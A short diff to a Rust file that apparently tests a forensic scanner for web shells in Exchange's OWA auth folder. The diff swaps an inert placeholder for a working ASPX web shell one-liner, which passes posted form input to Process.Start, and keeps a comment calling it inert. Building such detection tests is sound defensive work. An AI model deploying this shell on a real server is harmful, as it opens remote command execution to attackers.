@@ -19,7 +19,8 @@ const WRITTEN: i64 = 1_614_747_600_000;
 const INSTALLED: i64 = 1_600_596_000_000;
 const AUTH: &str = r"Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth";
 /// Code that does nothing, in the form that the rules about content know.
-const SHELL: &[u8] = b"<%@ Page Language=\"Jscript\" %><%-- inert: Request.Form here; eval( there --%>";
+const SHELL: &[u8] =
+    b"<%@ Page Language=\"C#\" Inherits=\"Inert.Nothing\" %><% var inert = Request.Form[0]; Process.Start(inert); %>";
 
 /// Judges a folder of evidence, of which `meanwhile` may change something between listing and reading.
 fn assess(root: &Path, threads: usize, meanwhile: &dyn Fn()) -> Assessment {
